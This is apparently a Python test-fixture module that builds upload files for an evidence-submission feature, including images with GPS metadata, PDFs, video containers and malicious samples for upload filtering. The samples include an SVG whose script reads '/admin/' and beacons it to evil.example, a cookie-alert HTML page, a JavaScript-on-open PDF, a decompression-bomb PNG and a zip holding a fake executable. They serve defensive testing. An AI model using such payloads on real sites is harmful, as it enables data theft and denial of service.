"""Evidence files made in the test, from scratch: real pictures (Pillow), real PDFs, small but
well-formed MP4/QuickTime/WebM containers, and the malicious ones of the issue.

No binary fixtures in git: each builder returns bytes, and ``upload`` wraps them as the
browser would send them.
"""

from __future__ import annotations

import io
import struct
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

# Moscow, Red Square: what a buyer's phone writes into a photo taken at home.
LATITUDE = (55.0, 45.0, 21.12)
LONGITUDE = (37.0, 37.0, 19.68)
ISO6709 = b"+55.7539+037.6208/"


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- Pictures -------------------------------------------------------------------------------


def _two_tone(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue: orientation can be checked from the pixels."""
    image = Image.new(mode, (width, height), "blue")
    image.paste(Image.new(mode, (width // 2, height), "red"), (0, 0))
    return image


def jpeg(
    width: int = 64,
    height: int = 48,
    *,
    gps: bool = False,
    orientation: int | None = None,
    comment: bytes = b"",
) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # camera make
    exif[0x0110] = "Phone 15 Pro"  # camera model
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: LATITUDE, 3: "E", 4: LONGITUDE}
    out = io.BytesIO()
    options = {"comment": comment} if comment else {}
    _two_tone(width, height).save(out, "JPEG", exif=exif.tobytes(), quality=90, **options)
    return out.getvalue()


def png(width: int = 64, height: int = 48, *, text: dict[str, str] | None = None) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    _two_tone(width, height).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def gif(frames: int = 1, width: int = 32, height: int = 32) -> bytes:
    images = [
        Image.new("RGB", (width, height), color) for color in ("red", "green", "blue", "white")[:frames]
    ]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=frames > 1, append_images=images[1:], duration=100, loop=0)
    return out.getvalue()


def webp(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    _two_tone(width, height).save(out, "WEBP", quality=80)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` × ``height`` pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        import zlib

        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    import zlib

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


# --- Documents ------------------------------------------------------------------------------


def pdf(*, javascript: bool = False, text: str = "Bank statement: refund not received") -> bytes:
    """A small, valid, one-page PDF (optionally one that runs JavaScript when opened)."""
    content = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET".encode()
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if javascript:
        catalog += b" /OpenAction << /S /JavaScript /JS (app.alert('hi')) >>"
    objects = [
        catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# --- Videos ---------------------------------------------------------------------------------


def box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def _full_box(kind: bytes, payload: bytes = b"") -> bytes:
    return box(kind, b"\x00\x00\x00\x00" + payload)


def mp4(*, brand: bytes = b"isom", location: bool = True, mdat: bytes = b"\x00\x11\x22\x33" * 256) -> bytes:
    """ftyp, a moov with a video track and (optionally) the recording place, then the media data.

    The place is written where phones write it: ``udta/©xyz`` (MP4) and the QuickTime
    ``meta`` keys, both inside ``moov``."""
    compatible = b"isom" + b"iso2" + b"avc1" + b"mp41" if brand != b"qt  " else b"qt  "
    ftyp = box(b"ftyp", brand + struct.pack(">I", 0x200) + compatible)
    track = box(
        b"trak",
        _full_box(b"tkhd", bytes(80))
        + box(b"mdia", _full_box(b"mdhd", bytes(20)) + _full_box(b"hdlr", bytes(4) + b"vide" + bytes(13))),
    )
    metadata = b""
    if location:
        metadata = box(
            b"udta", box(b"\xa9xyz", struct.pack(">HH", len(ISO6709), 0x15C7) + ISO6709)
        ) + _full_box(
            b"meta",
            _full_box(b"hdlr", bytes(4) + b"mdta" + bytes(13))
            + box(
                b"keys",
                bytes(4) + struct.pack(">I", 1) + box(b"mdta", b"com.apple.quicktime.location.ISO6709"),
            )
            + box(b"ilst", box(struct.pack(">I", 1), box(b"data", bytes(8) + ISO6709))),
        )
    moov = box(b"moov", _full_box(b"mvhd", bytes(96)) + track + metadata)
    return ftyp + moov + box(b"mdat", mdat)


def webm(*, trailer: bytes = b"") -> bytes:
    """An EBML header with DocType "webm" and a Segment of known size."""
    header = box_ebml(0x1A45DFA3, box_ebml(0x4286, b"\x01") + box_ebml(0x4282, b"webm"))
    segment = box_ebml(0x18538067, box_ebml(0xEC, bytes(512)))
    return header + segment + trailer


def box_ebml(element_id: int, payload: bytes) -> bytes:
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    return id_bytes + b"\x01" + len(payload).to_bytes(7, "big") + payload


# --- Not evidence ---------------------------------------------------------------------------

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>"
    b"</svg>"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def windows_program() -> bytes:
    """The start of a Windows executable: 'MZ', the DOS stub, and a PE header."""
    dos = bytearray(b"MZ" + bytes(58) + struct.pack("<I", 64))
    return bytes(dos) + b"PE\x00\x00" + bytes(200)


def zip_archive(files: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in (files or {"invoice.exe": windows_program()}).items():
            archive.writestr(name, data)
    return out.getvalue()


# --- Pictures built by hand, for the decoding limits (R-EVD-2, issue 13) ----------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    import zlib

    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_raw(
    width: int,
    height: int,
    rows: bytes,
    *,
    colour: int = 2,
    depth: int = 8,
    interlace: int = 0,
    after_image: bytes = b"",
) -> bytes:
    """A PNG whose image data is ``rows`` (filter byte + samples per scanline) as given, so a
    test can leave rows out or use a filter type that does not exist."""
    import zlib

    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    palette = png_chunk(b"PLTE", bytes(range(256)) * 3) if colour == 3 else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + palette
        + png_chunk(b"IDAT", zlib.compress(rows))
        + after_image
        + png_chunk(b"IEND", b"")
    )


def png_interlaced(width: int = 21, height: int = 13) -> bytes:
    """An Adam7-interlaced 8-bit RGB PNG (Pillow reads them but never writes them)."""
    rows = bytearray()
    for x0, y0, dx, dy in (
        (0, 0, 8, 8),
        (4, 0, 8, 8),
        (0, 4, 4, 8),
        (2, 0, 4, 4),
        (0, 2, 2, 4),
        (1, 0, 2, 2),
        (0, 1, 1, 2),
    ):
        pass_width = max(0, (width - x0 + dx - 1) // dx)
        pass_height = max(0, (height - y0 + dy - 1) // dy)
        if pass_width and pass_height:
            rows += (
                b"\x01" + bytes(range(3 * pass_width % 256)) + bytes(3 * pass_width - 3 * pass_width % 256)
            ) * pass_height
    return png_raw(width, height, bytes(rows), interlace=1)


def gif_on_small_screen(frames: int, width: int, height: int) -> bytes:
    """An animation whose header says its screen is 1 × 1 while each frame is ``width`` × ``height``
    (Pillow grows the picture to the frames, so counting the header's size would count 1 pixel)."""
    data = bytearray(gif(frames=frames, width=width, height=height))
    data[6:10] = struct.pack("<HH", 1, 1)
    return bytes(data)


def gif_of_single_pixels(frames: int) -> bytes:
    """``frames`` frames of one pixel each, written by hand (a clear code, pixel 0, end code)."""
    header = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = (
        b"\x21\xf9\x04\x00\x05\x00\x00\x00"
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
        + b"\x02\x02\x44\x01\x00"
    )
    return header + loop + frame * frames + b"\x3b"
